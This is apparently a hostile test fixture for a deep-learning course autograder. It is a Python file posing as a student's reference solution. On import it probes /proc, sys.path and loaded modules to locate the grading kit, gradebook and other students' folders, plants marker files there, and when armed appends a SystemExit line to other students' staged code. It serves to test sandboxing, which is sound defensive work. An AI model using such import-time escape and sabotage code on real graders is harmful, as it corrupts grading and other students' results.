"""HOSTILE TEST INPUT: the reference solution, but importing it tries to write everywhere
outside its own temporary folder.

It tries to create a file named ``dlkit-attack-was-here`` in every folder it can find that
belongs to the grading machine: the kit (its root, ``solutions/``, ``graders/``,
``exercises/``, ``autograder/``, ``tests/``: any folder holding ``solutions/`` or
``graders/``, found by walking up from ``sys.prefix``, ``sys.path``, the imported modules,
its cwd and every visible process's cwd and command line), the results folder (``--out``
of ``autograder grade``), the gradebook's folder (``--db``), the submissions folder (the
argument of ``grade``) and every student's folder in it, the grader's staging folder
(``--impl``) and report folder (``--grade-json``) with their siblings, ``/tmp``,
``/var/tmp``, ``/dev/shm``, ``$HOME``, ``/root`` and ``/home/*``; plus the folders the test
knows (written in place of the ``/nonexistent/`` placeholders). It only creates new files
(``O_EXCL``), never changes an existing one -- except, when the test arms it (``@ARMED@``
replaced), the other students' *staged* copies in the batch's temporary folder, to which
it appends a line raising SystemExit (a student graded later would lose every point).
What it wrote is listed in the file the test names in place of
``/nonexistent/dlkit-write-report``, for the test's clean-up. The graded functions are
those of the reference solution.
"""
import glob as _glob
import os as _os
import re as _re
import sys as _sys

_ARMED = "@ARMED@".startswith("yes")
_KNOWN = ("/nonexistent/dlkit-kit", "/nonexistent/dlkit-out", "/nonexistent/dlkit-db-folder",
          "/nonexistent/dlkit-submissions")
_MARKER = "dlkit-attack-was-here"
_REPORT = "/nonexistent/dlkit-write-report"  # where it notes what it wrote, for the clean-up
_KIT_PARTS = ("", "solutions", "graders", "exercises", "autograder", "tests", "tests/hostile")
_SABOTAGE = b"\nraise SystemExit('sabotaged by write_into_kit')\n"


def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit)
    except (OSError, ValueError):
        return b""


def _paths_in(text):
    return [_os.path.normpath(p) for p in _re.findall(r"/[^\s:=,;'\"\0]+", text)]


def _subfolders(folder):
    try:
        return [_os.path.join(folder, e) for e in sorted(_os.listdir(folder))[:200]]
    except OSError:
        return []


def _targets():
    folders = list(_KNOWN) + ["/tmp", "/var/tmp", "/dev/shm", "/root", _os.path.expanduser("~"),
                              _os.environ.get("HOME", "/")] + _glob.glob("/home/*")
    folders += _subfolders(_KNOWN[3])  # the students' folders
    staged = []
    starts = list(_KNOWN) + [_sys.prefix, _sys.base_prefix, _os.path.abspath(__file__)]
    starts += [p for p in _sys.path if isinstance(p, str)]
    starts += [m.__file__ for m in list(_sys.modules.values())
               if isinstance(getattr(m, "__file__", None), str)]
    try:
        pids = sorted((p for p in _os.listdir("/proc") if p.isdigit()), key=int)[:2000]
    except OSError:
        pids = []
    for pid in ["self", str(_os.getppid())] + pids:
        try:
            starts.append(_os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
        words = _read(f"/proc/{pid}/cmdline").decode("utf-8", "replace").split("\0")
        for index, word in enumerate(words):
            starts += _paths_in(word)
            value = _paths_in(words[index + 1]) if index + 1 < len(words) else []
            if word in ("--out", "-o", "grade"):
                folders += value + [s for v in value for s in _subfolders(v)]
            elif word in ("--db", "--grade-json"):
                folders += [_os.path.dirname(v) for v in value]
            elif word == "--impl":  # the staged copy; its parent holds the other students'
                staged += value
                folders += value + [s for v in value for s in _subfolders(_os.path.dirname(v))]
    for start in starts:  # the kit: a folder holding solutions/ or graders/
        path = _os.path.normpath(start)
        for _ in range(64):
            if _os.path.isdir(_os.path.join(path, "solutions")) or _os.path.isdir(
                    _os.path.join(path, "graders")):
                folders += [_os.path.join(path, part) for part in _KIT_PARTS]
            if path in ("/", ""):
                break
            path = _os.path.dirname(path)
    return list(dict.fromkeys(f for f in folders if f)), staged


def _attack():
    written = []
    folders, staged = _targets()
    for folder in folders:
        try:
            fd = _os.open(_os.path.join(folder, _MARKER), _os.O_WRONLY | _os.O_CREAT | _os.O_EXCL,
                          0o644)
        except OSError:
            continue
        _os.write(fd, b"written by tests/hostile/write_into_kit.py\n")
        _os.close(fd)
        written.append(folder)
    if _ARMED:
        mine = _read(_os.path.abspath(__file__))
        for folder in staged:
            for other in _subfolders(_os.path.dirname(folder)):
                path = _os.path.join(other, "backprop.py")
                if "/stage/" in path and _read(path) not in (b"", mine):
                    try:
                        with open(path, "ab") as handle:
                            handle.write(_SABOTAGE)
                        written.append(path)
                    except OSError:
                        pass
    try:
        with open(_REPORT, "a") as handle:
            handle.write("".join(path + "\n" for path in written))
    except OSError:
        pass
    return written


try:
    _written = _attack()
except Exception as _exc:  # noqa: BLE001 - the attack must never hide the base
    _written = []
    _sys.stderr.write(f"write_into_kit: {_exc!r}\n")
# ---- BASE ----
